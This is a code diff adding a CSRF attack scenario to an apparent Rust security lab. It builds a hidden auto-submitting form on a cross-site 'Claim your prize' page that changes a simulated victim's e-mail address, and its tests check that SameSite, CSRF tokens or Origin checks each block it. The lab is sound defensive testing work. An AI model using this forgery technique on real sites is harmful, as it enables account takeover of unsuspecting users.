@@ -1,8 +1,298 @@
-//! `csrf`: TODO(helper).
+//! `csrf`: a page on another site changes the victim's e-mail address.
+//!
+//! The attacker copies the app's e-mail form from his own settings page into
+//! a page on `evil.test` (another registrable domain than the app's
+//! `lab.test`, so cross-site), with his own address in it and a script that
+//! submits it the moment the page is shown. Alice, signed in to the app, opens
+//! a link to that page. Her browser sends the form to the app as a top-level
+//! POST: whether her session cookie goes along is SameSite's decision, whether
+//! the app accepts the request is the token's and the origin check's. The
+//! proof is alice's own view of her account: it shows the attacker's address.
+//! The attacker never reads her page.
 
-use crate::lab::{RunContext, RunError};
-use crate::outcome::Verdict;
+use std::time::Duration;
 
-pub async fn run(_ctx: &mut RunContext) -> Result<Verdict, RunError> {
-    Err(RunError::Lab("csrf is not written yet".into()))
+use rand::Rng;
+use sessionlab_browser::{
+    AUTO_SUBMIT_FIRST_FORM, Browser, CookieDecision, Exchange, Page, ScriptEffect, html,
+};
+use url::Url;
+
+use crate::actors::{log_in, session_id};
+use crate::evil_site::EvilSite;
+use crate::lab::{EVIL_CROSS_SITE_HOST, RunContext, RunError};
+use crate::outcome::{Actor, Verdict};
+
+pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
+    let evil = EvilSite::start()
+        .await
+        .map_err(|e| RunError::Lab(format!("could not start {EVIL_CROSS_SITE_HOST}: {e}")))?;
+    let run_id = format!("{:016x}", rand::rng().random::<u64>());
+    let planted = format!("mallory-{}@evil.test", &run_id[..8]);
+
+    let mut attacker = ctx.browser("attacker");
+    log_in(ctx, &mut attacker, &ctx.attacker).await?;
+    let settings = attacker
+        .open(&ctx.app_url("/account/settings"), None)
+        .await?;
+    let Some(form) = settings
+        .forms()
+        .into_iter()
+        .find(|form| form.action.path() == "/account/email")
+    else {
+        return Err(RunError::Lab(format!(
+            "{}'s settings page ({}) has no e-mail form",
+            ctx.attacker.username, settings.status
+        )));
+    };
+    // Every field as his own page has it (a token too, if there is one), his address in `email`.
+    let mut fields = form.fields;
+    match fields.iter_mut().find(|(name, _)| name == "email") {
+        Some(email) => email.1 = planted.clone(),
+        None => fields.push(("email".into(), planted.clone())),
+    }
+    let names: Vec<&str> = fields.iter().map(|(name, _)| name.as_str()).collect();
+    ctx.step(
+        Actor::Attacker,
+        format!(
+            "logged in as {} and read the e-mail form on his own settings page",
+            ctx.attacker.username
+        ),
+        format!(
+            "a POST to /account/email with the fields {}; he copies them all",
+            names.join(", ")
+        ),
+    );
+
+    // The action without any query: the attacker's own page may carry his session in its links.
+    let action = ctx.app_url("/account/email");
+    evil.host_page(&run_id, forgery_page(&action, &fields));
+    let lure = evil.cross_site_url(&format!("/page/{run_id}"));
+    ctx.step(
+        Actor::Attacker,
+        format!("put that form, hidden, on a page at {lure} with `document.forms[0].submit()`"),
+        format!("the form sends email={planted} to {action}"),
+    );
+
+    let mut victim = ctx.browser("victim");
+    evil.join_cross_site(&mut victim.network);
+    log_in(ctx, &mut victim, &ctx.victim).await?;
+    let before = read_own_email(ctx, &mut victim).await?;
+    ctx.step(
+        Actor::Victim,
+        format!("{} logged in and opened her account", ctx.victim.username),
+        format!("her e-mail address is {before}"),
+    );
+
+    let cookie_before = session_id(ctx, &victim);
+    let page = victim.open(&lure, None).await?;
+    let browser_did = describe_forged_request(ctx, &victim, &page);
+    ctx.step(
+        Actor::Victim,
+        format!("opened the link to {EVIL_CROSS_SITE_HOST} (sent to her by e-mail)"),
+        &browser_did,
+    );
+
+    // A forged request that reached the app without her cookie may have been answered with a
+    // fresh anonymous session, replacing her cookie: then she simply logs in again to look.
+    let account = victim.open(&ctx.app_url("/account"), None).await?;
+    if account.url.path() != "/account" {
+        let why = if session_id(ctx, &victim) != cookie_before {
+            format!(
+                "the answers to the forged request had replaced her {} cookie with a new, anonymous session",
+                ctx.target.session_cookie
+            )
+        } else {
+            "her session had ended".to_string()
+        };
+        log_in(ctx, &mut victim, &ctx.victim).await?;
+        ctx.step(
+            Actor::Victim,
+            "found herself logged out and logged in again",
+            why,
+        );
+    }
+    let after = read_own_email(ctx, &mut victim).await?;
+    let verdict = if after == planted {
+        Verdict::compromised(format!(
+            "{browser_did}; her own account page now shows the attacker's address {after}"
+        ))
+    } else {
+        Verdict::blocked(format!(
+            "{browser_did}; her account page still shows {after}"
+        ))
+    };
+    ctx.step(
+        Actor::Victim,
+        "opened her account page again",
+        format!("her e-mail address is {after}"),
+    );
+    Ok(verdict)
+}
+
+/// The victim's e-mail address as her account page shows it.
+async fn read_own_email(ctx: &RunContext, browser: &mut Browser) -> Result<String, RunError> {
+    let page = browser.open(&ctx.app_url("/account"), None).await?;
+    html::text_by_id(&page.body, "email").ok_or_else(|| {
+        RunError::Lab(format!(
+            "the account page ({}) shows no e-mail address",
+            page.status
+        ))
+    })
+}
+
+/// The attacker's page: the hidden form and the auto-submit program.
+fn forgery_page(action: &Url, fields: &[(String, String)]) -> String {
+    let inputs: String = fields
+        .iter()
+        .map(|(name, value)| {
+            format!(
+                "<input type=\"hidden\" name=\"{}\" value=\"{}\">",
+                attribute(name),
+                attribute(value)
+            )
+        })
+        .collect();
+    format!(
+        "<!doctype html><title>You have won!</title><h1>Claim your prize</h1>\
+         <form method=\"post\" action=\"{}\">{inputs}</form>{AUTO_SUBMIT_FIRST_FORM}",
+        attribute(action.as_str())
+    )
+}
+
+fn attribute(text: &str) -> String {
+    text.replace('&', "&amp;")
+        .replace('"', "&quot;")
+        .replace('<', "&lt;")
+        .replace('>', "&gt;")
+}
+
+/// What the victim's browser did with the page, in one line: whether the form
+/// was sent, with or without her session cookie (and why), and what the app answered.
+fn describe_forged_request(ctx: &RunContext, victim: &Browser, page: &Page) -> String {
+    let submitted = page
+        .scripts
+        .iter()
+        .any(|effect| matches!(effect, ScriptEffect::SubmittedForm { .. }));
+    if !submitted {
+        return match page.scripts.first() {
+            Some(ScriptEffect::BlockedByCsp { policy }) => {
+                format!("her browser did not run the page's script (its CSP `{policy}`)")
+            }
+            _ => format!(
+                "the page's script sent nothing ({} answered {})",
+                EVIL_CROSS_SITE_HOST, page.status
+            ),
+        };
+    }
+    let Some(post) = victim
+        .exchanges
+        .iter()
+        .rev()
+        .find(|e| e.method == "POST" && e.url.path() == "/account/email")
+    else {
+        return format!(
+            "the page submitted the form, but the request failed: {}",
+            victim.script_errors.join("; ")
+        );
+    };
+    format!(
+        "her browser POSTed the form to the app (Origin {}, Sec-Fetch-Site {}) and {}; the app answered {}",
+        post.request_header("origin").unwrap_or("none"),
+        post.request_header("sec-fetch-site").unwrap_or("none"),
+        session_cookie_decision(ctx, victim, post),
+        app_answer(post)
+    )
+}
+
+/// Whether the session cookie went with the forged POST, and the rule that decided it.
+fn session_cookie_decision(ctx: &RunContext, victim: &Browser, post: &Exchange) -> String {
+    let name = &ctx.target.session_cookie;
+    let decision = post
+        .cookie_decisions
+        .iter()
+        .find(|decision| match decision {
+            CookieDecision::Sent(cookie) | CookieDecision::Withheld { cookie, .. } => {
+                &cookie.name == name
+            }
+        });
+    match decision {
+        Some(CookieDecision::Sent(cookie)) if !cookie.same_site_explicit => {
+            let age = victim
+                .now()
+                .duration_since(cookie.created)
+                .unwrap_or(Duration::ZERO);
+            format!(
+                "sent her {name} cookie with it (no SameSite attribute, so Lax by default, and {}s old: inside Chromium's two-minute Lax+POST allowance)",
+                age.as_secs()
+            )
+        }
+        Some(CookieDecision::Sent(_)) => format!("sent her {name} cookie with it"),
+        Some(CookieDecision::Withheld { reason, .. }) => {
+            format!("kept her {name} cookie home ({reason})")
+        }
+        None => format!("had no {name} cookie to send"),
+    }
+}
+
+/// "303 redirect to /account" or `403 "CSRF token missing or wrong: ..."`.
+fn app_answer(post: &Exchange) -> String {
+    if let Some(location) = post.response_header("location") {
+        return format!("{} redirect to {location}", post.status);
+    }
+    // The app explains its 4xx answers in the first line.
+    let reason = post.body.lines().next().map(str::trim).unwrap_or_default();
+    if (400..500).contains(&post.status) && !reason.is_empty() && !reason.starts_with('<') {
+        let headline: String = reason.chars().take(100).collect();
+        format!("{} \"{headline}\"", post.status)
+    } else {
+        post.status.to_string()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use sessionlab_app::{Defense, Profile, ProfileName};
+
+    use crate::actors::run_against;
+    use crate::outcome::Outcome;
+
+    const LAYERS: [Defense; 3] = [
+        Defense::SameSiteStrict,
+        Defense::CsrfToken,
+        Defense::OriginCheck,
+    ];
+
+    /// Hardened with only `kept` of the three CSRF layers on.
+    fn hardened_with_only(kept: Option<Defense>) -> Profile {
+        LAYERS
+            .into_iter()
+            .filter(|layer| Some(*layer) != kept)
+            .fold(Profile::new(ProfileName::Hardened), Profile::without)
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn each_layer_alone_blocks_and_none_falls() {
+        for (kept, stopped_by) in [
+            (Defense::SameSiteStrict, "SameSite=Strict"),
+            (Defense::CsrfToken, "CSRF token missing or wrong"),
+            (Defense::OriginCheck, "Cross-origin request refused"),
+        ] {
+            let result = run_against("csrf", hardened_with_only(Some(kept))).await;
+            assert_eq!(
+                result.outcome,
+                Outcome::Blocked,
+                "{kept}: {}",
+                result.evidence
+            );
+            assert!(
+                result.evidence.contains(stopped_by),
+                "{kept}: {}",
+                result.evidence
+            );
+        }
+        let result = run_against("csrf", hardened_with_only(None)).await;
+        assert_eq!(result.outcome, Outcome::Compromised, "{}", result.evidence);
+        assert!(result.evidence.contains("Lax+POST"), "{}", result.evidence);
+    }
 }
